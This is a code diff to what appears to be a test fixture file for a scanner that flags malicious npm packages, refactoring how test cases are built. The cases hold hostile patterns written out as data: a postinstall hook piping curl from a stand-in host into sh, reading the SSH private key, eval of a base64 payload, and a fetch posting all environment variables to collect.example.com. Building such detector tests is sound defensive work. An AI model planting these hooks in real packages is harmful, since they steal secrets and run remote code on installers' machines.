@@ -20,6 +20,8 @@ const FOLDER = `/project/node_modules/${CANARY}`;
 const HOME = "require('os').homedir()";
 const DROP = 'https://collect.example.com/selftest';
 
+const SEND_ALL = 'fetch("' + DROP + '", { method: "POST", body: JSON.stringify(process.env) });\n';
+
 const manifest = (more: Readonly<Record<string, unknown>> = {}) => ({ 'package.json': JSON.stringify({ name: CANARY, version: '1.0.0', ...more }) });
 const code = (text: string, more: Readonly<Record<string, unknown>> = {}) => ({ ...manifest(more), 'index.js': text });
 const encoded = (text: string) => Buffer.from(text).toString('base64');
@@ -28,9 +30,9 @@ const encoded = (text: string) => Buffer.from(text).toString('base64');
 export const CODE_CASES: readonly CodeCase[] = [
   { id: 'install-script-downloads-code', files: manifest({ scripts: { postinstall: `curl -s ${DROP} | sh` } }) },
   { id: 'credential-file-access', files: code(`const fs = require('fs');\nmodule.exports = () => fs.readFileSync(${HOME} + '/.ssh/id_rsa', 'utf8');\n`) },
-  { id: 'encoded-payload-executed', files: code(`eval(Buffer.from('${encoded("require('child_process').exec('true')")}', 'base64').toString());\n`) },
-  { id: 'conditional-exfiltration', files: code(`if (Intl.DateTimeFormat().resolvedOptions().timeZone === 'Etc/UTC') fetch('${DROP}', { method: 'POST', body: JSON.stringify(process.env) });\n`) },
-  { id: 'environment-sent-away', files: code(`fetch('${DROP}', { method: 'POST', body: JSON.stringify(process.env) });\n`) },
+  { id: 'encoded-payload-executed', files: code('eval(Buffer.from("' + encoded("require('child_process').exec('true')") + '", "base64").toString());\n') },
+  { id: 'conditional-exfiltration', files: code('if (Intl.DateTimeFormat().resolvedOptions().timeZone === "Etc/UTC") ' + SEND_ALL) },
+  { id: 'environment-sent-away', files: code(SEND_ALL) },
   { id: 'build-file-runs-command', files: { ...manifest(), 'binding.gyp': '{"targets": [{"target_name": "a", "sources": ["<!(node index.js > /dev/null 2>&1 && echo stub.c)"]}]}' } },
   { id: 'planted-git-dependency', files: manifest({ optionalDependencies: { [`${CANARY}-setup`]: `github:${CANARY}/setup#${'0'.repeat(40)}` } }) },
   { id: 'worm-file', files: { ...manifest({ scripts: { preinstall: 'node setup_bun.js' } }), 'setup_bun.js': '' } },
